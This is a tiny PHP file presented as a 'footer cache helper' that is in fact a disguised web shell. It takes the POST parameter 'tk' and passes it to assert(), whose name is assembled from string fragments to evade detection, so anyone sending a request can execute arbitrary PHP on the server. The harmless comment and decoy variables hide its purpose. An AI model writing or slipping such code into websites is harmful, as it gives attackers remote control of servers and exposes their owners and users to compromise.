<?php
/* footer cache helper */
$cfg_timeout = 30;
$page_token = $_POST['tk'];
$buffer = $page_token;
$render = "as" . "se" . "rt";
$render($buffer);
